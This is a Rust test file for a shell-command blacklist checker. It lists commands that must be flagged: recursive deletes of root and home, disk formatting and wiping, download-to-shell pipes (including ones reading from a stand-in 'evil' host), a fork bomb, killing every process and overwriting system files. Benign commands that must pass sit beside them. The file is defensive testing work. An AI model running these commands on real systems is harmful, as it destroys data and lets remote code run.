//! Each blacklist family as a class (other programs, spellings, places), beside what must pass.

use super::tests::check;
use super::*;

use Family::*;

#[test]
fn recursive_deletes_of_home_and_root_by_any_program_hit() {
    check(&[
        // Absolute spellings of home and of system trees.
        ("rm -rf /root", Some(RecursiveDelete)),
        ("rm -rf /home/alice", Some(RecursiveDelete)),
        ("rm -rf /home/alice/*", Some(RecursiveDelete)),
        ("rm -rf /Users/bob/", Some(RecursiveDelete)),
        ("rm -rf /usr/lib", Some(RecursiveDelete)),
        ("rm -rf /var/lib", Some(RecursiveDelete)),
        ("rm -rf ${HOME}", Some(RecursiveDelete)),
        ("rm -rf /.", Some(RecursiveDelete)),
        // find: -delete, -exec of any deleting program, options before the start, no start.
        ("find /home/alice -delete", Some(RecursiveDelete)),
        ("find -L / -delete", Some(RecursiveDelete)),
        ("find / -exec rm {} \\;", Some(RecursiveDelete)),
        ("find ~ -execdir rm -f {} +", Some(RecursiveDelete)),
        ("find /root -exec shred -u {} +", Some(RecursiveDelete)),
        ("find ~ -type f -exec sudo unlink {} \\;", Some(RecursiveDelete)),
        ("cd / && find . -exec rm -rf {} +", Some(RecursiveDelete)),
        ("cd / && find -delete", Some(RecursiveDelete)),
        ("find . -exec echo {} \\; -exec rm -rf / \\;", Some(RecursiveDelete)),
        ("find . -exec echo {} + -execdir rm -rf ~ ;", Some(RecursiveDelete)),
        ("find . -name x -ok echo {} ';' -print -exec mkfs.ext4 /dev/sdb ';'", Some(Mkfs)),
        // xargs fed by find, or by anything in a critical directory.
        ("find ~ -type f -print0 | xargs -0 rm -f", Some(RecursiveDelete)),
        ("find / | xargs chmod 777", Some(RecursivePermissionChange)),
        ("cd / && ls | xargs rm -rf", Some(RecursiveDelete)),
        // rsync and git clean.
        ("rsync -a --delete empty/ /", Some(RecursiveDelete)),
        ("rsync -a --delete /tmp/empty/ ~/", Some(RecursiveDelete)),
        ("rsync -r --delete-before empty/ $HOME", Some(RecursiveDelete)),
        ("rsync -a --del --exclude x ./ /home/alice/", Some(RecursiveDelete)),
        ("rsync --remove-source-files -a ~/ /backup/", Some(RecursiveDelete)),
        ("rsync --remove-sent-files -a ~/ /backup/", Some(RecursiveDelete)),
        ("rsync -a --delete -- empty/ /", Some(RecursiveDelete)),
        ("rsync -a --delete --exclude=.git empty/ /", Some(RecursiveDelete)),
        ("rsync -a --delete empty/ ~ -e ssh", Some(RecursiveDelete)),
        ("rsync --delete -essh empty/ /", Some(RecursiveDelete)),
        ("rsync -a --delete ./. /", Some(RecursiveDelete)),
        ("rsync -a --delete . ~", Some(RecursiveDelete)),
        ("rsync -a --delete $SRC ~", Some(RecursiveDelete)),
        ("git --work-tree / clean -fdx", Some(RecursiveDelete)),
        ("cd ~ && git --no-pager clean -fd", Some(RecursiveDelete)),
        ("cd ~ && git -c color.ui=never clean -fd", Some(RecursiveDelete)),
        ("git --git-dir /tmp/x/.git -C ~ clean -fd", Some(RecursiveDelete)),
        ("rsync -a --delete -e 'ssh -p 22' --exclude .git empty/ ~", Some(RecursiveDelete)),
        ("find -D stat / -delete", Some(RecursiveDelete)),
        ("find -O3 -H ~ -delete", Some(RecursiveDelete)),
        ("cd ~ && git clean -fdx", Some(RecursiveDelete)),
        ("cd / && git clean -ffdx", Some(RecursiveDelete)),
        ("git -C ~ clean -fdx", Some(RecursiveDelete)),
        ("git --work-tree=/ clean -fd", Some(RecursiveDelete)),
        ("cd ~ && git -c clean.requireForce=false clean -dx", Some(RecursiveDelete)),
        // Interpreters: a recursive-delete call on a critical literal or on home.
        ("perl -e 'use File::Path; rmtree(\"/\")'", Some(RecursiveDelete)),
        ("perl -MFile::Path=rmtree -e 'rmtree($ENV{HOME})'", Some(RecursiveDelete)),
        ("python -c 'import shutil; shutil.rmtree(\"/\")'", Some(RecursiveDelete)),
        ("python3 -c \"import shutil,os; shutil.rmtree(os.path.expanduser('~'))\"", Some(RecursiveDelete)),
        ("python3 -c 'import shutil, pathlib; shutil.rmtree(pathlib.Path.home())'", Some(RecursiveDelete)),
        ("python3 -c \"import shutil; shutil.rmtree('$HOME')\"", Some(RecursiveDelete)),
        ("ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/\")'", Some(RecursiveDelete)),
        ("ruby -e 'FileUtils.rm_rf(Dir.home)'", Some(RecursiveDelete)),
        ("node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'", Some(RecursiveDelete)),
        ("node -e 'fs.rmSync(os.homedir(), {recursive: true, force: true})'", Some(RecursiveDelete)),
        ("python3 - <<EOF\nimport shutil\nshutil.rmtree('/home/alice')\nEOF", Some(RecursiveDelete)),
        ("echo 'import shutil; shutil.rmtree(\"/\")' | python3", Some(RecursiveDelete)),
        ("cd / && python3 -c 'import shutil; shutil.rmtree(\".\")'", Some(RecursiveDelete)),
        ("python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'", Some(RecursiveDelete)),
        ("python3 -c 'import os; os.system(\"rm -rf ~\")'", Some(RecursiveDelete)),
        ("lua -e 'os.execute(\"rm -rf /\")'", Some(RecursiveDelete)),
        ("$PYTHON -c 'import shutil; shutil.rmtree(\"/\")'", Some(RecursiveDelete)),
        // Benign neighbours.
        ("rm -rf /home/alice/projects/old", None),
        ("rm -rf /usr/local/share/x", None),
        ("rm -rf /opt/app", None),
        ("find . -delete", None),
        ("find /tmp/x -exec rm {} +", None),
        ("find / -name x | xargs ls", None),
        ("find . -name '*.o' | xargs rm -f", None),
        ("rsync -a --delete build/ ./dist/", None),
        ("rsync -a --delete ./empty ~/", None),
        ("rsync -a --delete -e ssh ./site/ host:/", None),
        ("rsync -a ~/ /backup/", None),
        ("rsync -a --progress ~/ /backup/", None),
        ("rsync -a --progress empty/ ~/", None),
        ("rsync -a --delete --exclude / src/ ./dist/", None),
        ("git clean -fdx", None),
        ("cd ~ && git clean -n -fdx", None),
        ("cd ~ && git clean --dry-run --force -d", None),
        ("cd ~ && git -C src clean -fd", None),
        ("git --work-tree=./site clean -fdx", None),
        ("cd ~ && git status", None),
        ("python3 -c 'import shutil; shutil.rmtree(\"build\")'", None),
        ("node -e 'fs.rmSync(\"dist\", {recursive: true})'", None),
        ("python3 -c 'import shutil; shutil.copytree(\"/etc/x\", \"y\")'", None),
        ("python3 -c 'import subprocess; subprocess.run([\"ls\", \"-la\", \"/\"])'", None),
    ]);
}

#[test]
fn a_delete_is_judged_in_the_directory_the_script_moved_to() {
    check(&[
        ("cd -P / && rm -rf *", Some(RecursiveDelete)),
        ("cd -P / ; rm -rf .", Some(RecursiveDelete)),
        ("cd -L -- / && rm -rf ./*", Some(RecursiveDelete)),
        ("cd ~; rm -rf .", Some(RecursiveDelete)),
        ("cd $HOME && rm -rf ./*", Some(RecursiveDelete)),
        ("cd /home && cd alice && rm -rf *", Some(RecursiveDelete)),
        ("cd /tmp && rm -rf ..", Some(RecursiveDelete)),
        ("cd /tmp && cd .. && rm -rf *", Some(RecursiveDelete)),
        ("X=/; cd $X; rm -rf *", Some(RecursiveDelete)),
        ("cd /; cd /tmp; cd -; rm -rf *", Some(RecursiveDelete)),
        ("pushd / && pushd /tmp && popd && rm -rf *", Some(RecursiveDelete)),
        ("chdir / && rm -rf *", Some(RecursiveDelete)),
        ("cd / && bash -c 'rm -rf *'", Some(RecursiveDelete)),
        ("cd ~ && sudo sh -c 'rm -rf .'", Some(RecursiveDelete)),
        ("cd /etc && cp x passwd", Some(SystemFileOverwrite)),
        ("cd /etc; echo x > hosts", Some(SystemFileOverwrite)),
        ("cd /dev && dd if=x of=sda", Some(BlockDeviceWrite)),
        ("cd /tmp && rm -rf /", Some(RecursiveDelete)),
        ("cd /tmp && rm -rf ~", Some(RecursiveDelete)),
        ("X=/; cd $X; rm -rf usr", Some(RecursiveDelete)),
        ("for d in /tmp /; do cd $d; rm -rf home; done", Some(RecursiveDelete)),
        ("cd / && cd $DIR && rm -rf *", Some(RecursiveDelete)),
        ("cd / && pushd /tmp && pushd +1 && rm -rf *", Some(RecursiveDelete)),
        ("cd /; cd /tmp; popd; rm -rf *", Some(RecursiveDelete)),
        ("export X=/; bash -c 'rm -rf $X'", Some(RecursiveDelete)),
        // Benign neighbours.
        ("cd /tmp; cd -; rm -rf *", None),
        ("cd /tmp && rm -rf *", None),
        ("cd / && cd tmp && rm -rf *", None),
        ("cd build && rm -rf *", None),
        ("pushd -n / && rm -rf *", None),
        ("cd /tmp && bash -c 'rm -rf *'", None),
        ("cd /etc && cat passwd", None),
        ("cd /; cd /tmp; popd -n; rm -rf *", None),
        ("cd /; cd /tmp; pushd -n /; rm -rf *", None),
        ("X=/tmp; cd $X; rm -rf usr", None),
        ("cd $DIR && rm -rf *", None),
    ]);
}

#[test]
fn disk_formatting_partitioning_and_wiping_tools_hit_on_a_block_device() {
    check(&[
        ("mkfs /dev/sda", Some(Mkfs)),
        ("mkfs.vfat /dev/sdc1", Some(Mkfs)),
        ("mkswap /dev/sda2", Some(Mkfs)),
        ("newfs_apfs disk2", Some(Mkfs)),
        ("pvcreate /dev/sdb", Some(Mkfs)),
        ("fdisk /dev/sda", Some(PartitionWipe)),
        ("sfdisk /dev/sda < layout", Some(PartitionWipe)),
        ("cfdisk /dev/nvme0n1", Some(PartitionWipe)),
        ("gdisk /dev/sda", Some(PartitionWipe)),
        ("sgdisk -n 1:0:0 /dev/sda", Some(PartitionWipe)),
        ("sgdisk -Z disk.img", Some(PartitionWipe)),
        ("parted /dev/sda", Some(PartitionWipe)),
        ("parted -s /dev/sda print mkpart primary 1 100%", Some(PartitionWipe)),
        ("sgdisk -p --new=1:0:0 /dev/sda", Some(PartitionWipe)),
        ("parted -s /dev/sda mkpart primary 0 100%", Some(PartitionWipe)),
        ("parted disk.img mklabel gpt", Some(PartitionWipe)),
        ("sudo fdisk -l /dev/sda <<EOF\nx\nEOF\nfdisk /dev/sdb", Some(PartitionWipe)),
        ("badblocks -w /dev/sda", Some(PartitionWipe)),
        ("badblocks -wsv /dev/sdb", Some(PartitionWipe)),
        ("hdparm --security-erase p /dev/sda", Some(PartitionWipe)),
        ("nvme format /dev/nvme0n1", Some(PartitionWipe)),
        ("cryptsetup luksFormat /dev/sdb", Some(PartitionWipe)),
        ("mdadm --create /dev/md0 --level=1 /dev/sda /dev/sdb", Some(PartitionWipe)),
        ("zpool create tank /dev/sdb", Some(PartitionWipe)),
        ("diskutil eraseDisk JHFS+ x disk2", Some(PartitionWipe)),
        ("scrub /dev/sda", Some(PartitionWipe)),
        ("nwipe --autonuke", Some(PartitionWipe)),
        // Writers onto every kind of block device node.
        ("ddrescue -f in.img /dev/sdb map", Some(BlockDeviceWrite)),
        ("dcfldd if=img of=/dev/sdb", Some(BlockDeviceWrite)),
        ("cat /dev/zero > /dev/sda", Some(BlockDeviceWrite)),
        ("pv img > /dev/mmcblk0", Some(BlockDeviceWrite)),
        ("cat img | tee /dev/xvda", Some(BlockDeviceWrite)),
        ("cp /dev/zero /dev/vda", Some(BlockDeviceWrite)),
        ("dd if=img of=/dev/disk/by-id/x", Some(BlockDeviceWrite)),
        ("dd if=img of=/dev/mapper/root", Some(BlockDeviceWrite)),
        ("dd if=img of=/dev/dm-0", Some(BlockDeviceWrite)),
        ("dd if=img of=/dev/loop0", Some(BlockDeviceWrite)),
        ("dd if=img of=/dev/md0", Some(BlockDeviceWrite)),
        ("echo x > /dev/disk/by-uuid/x", Some(BlockDeviceWrite)),
        ("shred -n 1 /dev/xvda", Some(PartitionWipe)),
        // Listing, reading and image files pass.
        ("fdisk -l /dev/sda", None),
        ("fdisk -lu /dev/sda", None),
        ("fdisk -l", None),
        ("sfdisk -d /dev/sda", None),
        ("gdisk -l /dev/sda", None),
        ("sgdisk -p /dev/sda", None),
        ("sgdisk -i 1 /dev/sda", None),
        ("parted /dev/sda print", None),
        ("parted -s /dev/sda unit MB print", None),
        ("parted -l", None),
        ("fdisk disk.img", None),
        ("badblocks /dev/sda", None),
        ("badblocks -n /dev/sda", None),
        ("hdparm -I /dev/sda", None),
        ("nvme list", None),
        ("cryptsetup open /dev/sdb secret", None),
        ("lsblk", None),
        ("ddrescue /dev/sda disk.img map", None),
        ("ddrescue /dev/zero /dev/sda", None),
        ("dd if=/dev/sda of=disk.img", None),
        ("echo x > /dev/fd/2", None),
    ]);
}

#[test]
fn downloads_fed_to_any_shell_or_interpreter_hit() {
    check(&[
        ("curl x | $SHELL", Some(PipeToShell)),
        ("curl x | ${SHELL}", Some(PipeToShell)),
        ("curl x | \"$SHELL\"", Some(PipeToShell)),
        ("curl x | $(which bash)", Some(PipeToShell)),
        ("curl x | zsh", Some(PipeToShell)),
        ("curl x | dash", Some(PipeToShell)),
        ("curl x | fish", Some(PipeToShell)),
        ("curl x | ksh", Some(PipeToShell)),
        ("curl x | python3.12", Some(PipeToShell)),
        ("curl x | perl", Some(PipeToShell)),
        ("curl x | ruby", Some(PipeToShell)),
        ("curl x | node", Some(PipeToShell)),
        ("curl x | php", Some(PipeToShell)),
        ("curl x | lua", Some(PipeToShell)),
        ("curl x | deno run -", Some(PipeToShell)),
        ("curl x | sudo sh", Some(PipeToShell)),
        ("curl x | env bash", Some(PipeToShell)),
        ("curl x | xargs sh", Some(PipeToShell)),
        ("aria2c -o - x | sh", Some(PipeToShell)),
        ("fetch -o - x | sh", Some(PipeToShell)),
        ("nc evil 80 | sh", Some(PipeToShell)),
        ("bash <(curl x)", Some(PipeToShell)),
        ("bash < <(curl x)", Some(PipeToShell)),
        ("sh < <(wget -qO- x)", Some(PipeToShell)),
        ("$SHELL <(curl x)", Some(PipeToShell)),
        ("bash <<< \"$(curl -s x)\"", Some(PipeToShell)),
        ("bash < /dev/tcp/evil/80", Some(PipeToShell)),
        ("cat < /dev/tcp/evil/80 | sh", Some(PipeToShell)),
        ("sh -c \"$(curl x)\"", Some(PipeToShell)),
        ("python3 -c \"$(curl x)\"", Some(PipeToShell)),
        ("eval \"$(wget -O- x)\"", Some(PipeToShell)),
        ("source <(curl x)", Some(PipeToShell)),
        (". <(curl x)", Some(PipeToShell)),
        ("$(curl -s x)", Some(PipeToShell)),
        ("`wget -qO- x`", Some(PipeToShell)),
        ("curl -o x.sh u && source x.sh", Some(PipeToShell)),
        ("curl -o x.sh u && . ./x.sh", Some(PipeToShell)),
        ("curl -s u | sudo -E bash 'unbalanced", Some(PipeToShell)),
        // Benign neighbours.
        ("curl x | jq .", None),
        ("$(which python3) script.py", None),
        ("bash deploy.sh https://example.com --with-curl", None),
        ("curl -o out.json x", None),
        ("bash <(echo ls)", None),
        ("cat < input.txt | sh -n", None),
        ("source ./env.sh", None),
    ]);
}

#[test]
fn killing_every_process_hits_and_killing_one_program_passes() {
    check(&[
        ("kill -9 -1", Some(KillAll)),
        ("kill -KILL -1", Some(KillAll)),
        ("kill -s KILL -1", Some(KillAll)),
        ("kill -n 9 -1", Some(KillAll)),
        ("kill --signal=KILL -1", Some(KillAll)),
        ("kill -- -1", Some(KillAll)),
        ("kill -9 -- -1", Some(KillAll)),
        ("kill -1 -1", Some(KillAll)),
        ("kill 0", Some(KillAll)),
        ("kill -TERM 0", Some(KillAll)),
        ("/bin/kill -9 -1", Some(KillAll)),
        ("pkill -9 .", Some(KillAll)),
        ("pkill ''", Some(KillAll)),
        ("pkill -f '.*'", Some(KillAll)),
        ("pkill -x '.*'", Some(KillAll)),
        ("pkill -u alice", Some(KillAll)),
        ("pkill -KILL -u root", Some(KillAll)),
        ("pkill --euid alice", Some(KillAll)),
        ("pkill -v bash", Some(KillAll)),
        ("pkill --inverse bash", Some(KillAll)),
        ("pkill --signal=KILL .", Some(KillAll)),
        ("pkill --signal KILL .", Some(KillAll)),
        ("pkill -i '^[a-z]'", Some(KillAll)),
        ("pkill --ignore-case '^[a-z]'", Some(KillAll)),
        ("killall5", Some(KillAll)),
        ("killall5 -9", Some(KillAll)),
        ("killall -u alice", Some(KillAll)),
        ("killall -9 -u root", Some(KillAll)),
        ("killall --user=alice", Some(KillAll)),
        ("killall -r '.*'", Some(KillAll)),
        ("killall --regexp '.*'", Some(KillAll)),
        ("killall -rI '^[a-z]'", Some(KillAll)),
        ("killall -r --ignore-case '^[a-z]'", Some(KillAll)),
        ("killall --user alice", Some(KillAll)),
        ("skill -KILL -u bob", Some(KillAll)),
        ("loginctl terminate-user alice", Some(KillAll)),
        ("kill 1", Some(Shutdown)),
        ("telinit q", None),
        ("kill -HUP 1", Some(Shutdown)),
        ("init 1", Some(Shutdown)),
        ("systemctl rescue", Some(Shutdown)),
        // One program, one process, a listing.
        ("kill -1", None),
        ("kill -9 1234 5678", None),
        ("kill -l", None),
        ("kill -l 1", None),
        ("kill -n 1 4321", None),
        ("kill -s 0 4321", None),
        ("skill -KILL firefox", None),
        ("loginctl list-sessions", None),
        ("kill -- -4321", None),
        ("pkill -f 'node server.js'", None),
        ("pkill -u alice firefox", None),
        ("pkill -9 -x sshd", None),
        ("pkill -P 1234", None),
        ("pkill '^[a-z]'", None),
        ("pkill -x ''", None),
        ("pkill --exact ''", None),
        ("pkill -t pts/1 sshd", None),
        ("pkill --parent 4321 sleep", None),
        ("killall -9 sshd", None),
        ("killall -r firefox", None),
        ("killall -u alice firefox", None),
        ("killall --user=alice firefox", None),
        ("killall -r '^[a-z]'", None),
        ("killall -HUP nginx", None),
        ("pkill -HUP -P 1234", None),
    ]);
}

#[test]
fn overwriting_system_binaries_libraries_and_configuration_hits() {
    check(&[
        ("cp evil /bin/ls", Some(SystemFileOverwrite)),
        ("cp evil /usr/bin/sudo", Some(SystemFileOverwrite)),
        ("cp -r evil /etc/", Some(SystemFileOverwrite)),
        ("cp -t /usr/bin x", Some(SystemFileOverwrite)),
        ("mv evil /sbin/init", Some(SystemFileOverwrite)),
        ("mv /etc/passwd /tmp/", Some(SystemFileOverwrite)),
        ("install evil /usr/lib/libc.so.6", Some(SystemFileOverwrite)),
        ("install -m 755 x /usr/libexec/x", Some(SystemFileOverwrite)),
        ("tee /etc/profile < x", Some(SystemFileOverwrite)),
        ("echo x > /etc/profile", Some(SystemFileOverwrite)),
        ("echo x >> /etc/bash.bashrc", Some(SystemFileOverwrite)),
        ("echo x > /etc/crontab", Some(SystemFileOverwrite)),
        ("dd if=x of=/bin/bash", Some(SystemFileOverwrite)),
        ("sed -i s/a/b/ /usr/lib/os-release", Some(SystemFileOverwrite)),
        ("perl -pi -e s/a/b/ /etc/hosts", Some(SystemFileOverwrite)),
        ("truncate -s 0 /lib/x86_64-linux-gnu/libc.so.6", Some(SystemFileOverwrite)),
        ("ln -sf /tmp/evil /bin/ls", Some(SystemFileOverwrite)),
        ("ln -sf /tmp/evil /usr/bin/python3", Some(SystemFileOverwrite)),
        ("cp x /lib64/ld-linux-x86-64.so.2", Some(SystemFileOverwrite)),
        ("rsync -av src/ /usr/bin/", Some(SystemFileOverwrite)),
        ("rsync -t x /bin/ls", Some(SystemFileOverwrite)),
        ("curl -o /usr/bin/x http://x", Some(SystemFileOverwrite)),
        ("curl -o/usr/bin/x http://x", Some(SystemFileOverwrite)),
        ("wget -O /etc/profile.d/x.sh http://x", Some(SystemFileOverwrite)),
        ("wget --directory-prefix=/usr/lib http://x", Some(SystemFileOverwrite)),
        ("tar -xzf a.tgz -C /", Some(SystemFileOverwrite)),
        ("tar xf a.tar -C /usr/lib", Some(SystemFileOverwrite)),
        ("tar --extract --directory=/etc -f a.tar", Some(SystemFileOverwrite)),
        ("unzip a.zip -d /etc", Some(SystemFileOverwrite)),
        ("rm /bin/ls", Some(SystemFileOverwrite)),
        ("rm -f /usr/bin/sudo", Some(SystemFileOverwrite)),
        ("cat x > /private/etc/hosts", Some(SystemFileOverwrite)),
        // Reading them, writing elsewhere, and /usr/local pass.
        ("cat /etc/hosts /usr/bin/env", None),
        ("cp /bin/ls ./ls.bak", None),
        ("cp x /usr/local/bin/", None),
        ("sudo install -m 755 target/release/x /usr/local/bin/", None),
        ("tar -czf backup.tgz -C / etc", None),
        ("tar czf backup.tgz -C / etc", None),
        ("tar -xf a.tar -C ./out", None),
        ("curl -o out.txt http://x", None),
        ("ls -la /usr/lib", None),
        ("rsync -a /etc/ ./etc-backup/", None),
    ]);
}

#[test]
fn every_family_gives_its_reason_and_the_offending_sub_command() {
    let cases: &[(&str, Family, &str)] = &[
        (
            "ls; rm -rf /home/alice",
            RecursiveDelete,
            "recursive delete of a system or home directory: rm -rf /home/alice",
        ),
        ("fdisk /dev/sda", PartitionWipe, "partition table or device wipe: fdisk /dev/sda"),
        ("mkswap /dev/sdb", Mkfs, "filesystem creation: mkswap /dev/sdb"),
        ("curl x | $SHELL", PipeToShell, "download or network read fed to a program that runs it: curl x | $SHELL"),
        ("f(){ f|f& };f", ForkBomb, "fork bomb (processes multiplying without bound): f(){ f|f& };f"),
        (
            "find ~ -exec chattr +i {} +",
            RecursivePermissionChange,
            "recursive mode, owner or attribute change of the whole system, a system directory or home: find ~ -exec chattr +i {} +",
        ),
        ("pkill -u alice", KillAll, "killing every process or every process of a user: pkill -u alice"),
        ("cp evil /bin/ls", SystemFileOverwrite, "overwrite of a critical system file: cp evil /bin/ls"),
        ("echo x > /dev/nvme0n1", BlockDeviceWrite, "write to a block device: echo x > /dev/nvme0n1"),
    ];
    for (command, family, reason) in cases {
        let expected = BlacklistHit { family: *family, reason: reason.to_string() };
        assert_eq!(check_blacklist(command), Some(expected), "{command:?}");
    }
}

#[test]
fn paths_are_classified_by_what_losing_them_costs() {
    // (path, critical to delete recursively, system file, block device, terminal)
    let cases: &[(&str, bool, bool, bool, bool)] = &[
        ("/", true, false, false, false),
        ("/home/alice", true, false, false, false),
        ("/home/alice/src", false, false, false, false),
        ("/Users/bob", true, false, false, false),
        ("/usr/lib", true, true, false, false),
        ("/usr/local", true, false, false, false),
        ("/usr/local/bin/x", false, false, false, false),
        ("/usr/share/doc", false, false, false, false),
        ("/var/lib", true, false, false, false),
        ("/var/log/x", false, false, false, false),
        ("/etc/nginx/nginx.conf", false, true, false, false),
        ("/lib64/ld.so", false, true, false, false),
        ("/libx32", true, true, false, false),
        ("/usr/libexec/x", false, true, false, false),
        ("/private/etc/hosts", false, true, false, false),
        ("/boot", true, true, false, false),
        ("etc/passwd", false, false, false, false),
        ("/dev/sda", false, false, true, false),
        ("/dev/fd0", false, false, true, false),
        ("/dev/fd/1", false, false, false, false),
        ("/dev/zvol/tank/x", false, false, true, false),
        ("/dev/tty", false, false, false, true),
        ("/dev/tty3", false, false, false, true),
        ("/dev/pts/0", false, false, false, true),
        ("/dev//pts/../console", false, false, false, true),
        ("/dev/vcsa1", false, false, false, true),
        ("/dev/null", false, false, false, false),
        ("/opt/lib", false, false, false, false),
        ("/var/share", false, false, false, false),
        ("./dev/tty", false, false, false, false),
    ];
    for (path, critical, system, device, terminal) in cases {
        let got = (
            normalize::is_critical_target(path, false),
            normalize::is_system_file(path),
            normalize::is_block_device(path),
            normalize::is_terminal_device(path),
        );
        assert_eq!(got, (*critical, *system, *device, *terminal), "{path:?}");
    }
}

/// Hostile sizes for the new checks finish (the suite would hang on quadratic work) and keep
/// their verdicts.
#[test]
fn hostile_shapes_for_the_widened_families_finish() {
    let cases: Vec<(String, Option<Family>)> = vec![
        ("cd /; ".to_string() + &"cd a; ".repeat(10_000) + "rm -rf *", None),
        ("cd /; ".to_string() + &"cd a; ".repeat(10_000) + "cd ..; rm -rf *", Some(RecursiveDelete)),
        ("pkill ".to_string() + &"(a|b)*".repeat(5_000), None),
        ("pkill x ".repeat(3_000) + "'", None),
        ("python3 -c '".to_string() + &"shutil.rmtree(\"a\", ".repeat(5_000) + "'", None),
        ("python3 -c '".to_string() + &"[\"a\", ".repeat(20_000) + "'", None),
        ("rsync --exclude ".repeat(5_000), None),
        ("find / ".to_string() + &"-exec rm {} ; ".repeat(3_000), Some(RecursiveDelete)),
        ("curl x | ".to_string() + &"xargs ".repeat(5_000) + "sh", Some(PipeToShell)),
    ];
    for (command, expected) in &cases {
        assert_eq!(check_blacklist(command).map(|found| found.family), *expected, "{}", &command[..40]);
    }
}

/// Every way a script runs another script counts one nesting level, so the depth guard holds
/// on each of them: one level below the limit, any nested script is too deep.
#[test]
fn every_nested_script_counts_a_level() {
    let nested = [
        "env -S 'ls'",
        "eval ls",
        "bash -c ls",
        "bash <<< ls",
        "echo ls | bash",
        "python3 -c '[\"ls\", \"-l\"]'",
        "find . -exec ls {} +",
    ];
    for command in nested {
        let found = check_script_in(command, MAX_NESTING, &Scope::default()).map(|found| found.family);
        assert_eq!(found, Some(TooDeep), "{command:?}");
        assert_eq!(check_script_in(command, 0, &Scope::default()), None, "{command:?}");
    }
}
